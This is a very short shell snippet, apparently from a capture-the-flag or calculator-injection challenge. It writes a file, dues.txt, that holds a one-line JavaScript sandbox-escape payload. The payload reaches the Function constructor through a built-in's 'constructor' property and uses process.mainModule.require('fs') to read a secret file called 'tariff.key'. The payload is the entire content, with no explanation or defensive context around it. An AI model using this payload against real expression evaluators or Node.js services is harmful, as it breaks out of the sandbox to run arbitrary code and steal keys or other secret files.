cat > dues.txt <<'D'
a = max[["constructor"]]("return process.mainModule.require('fs').readFileSync('tariff.key', 'utf8')")()
D
echo dues.txt
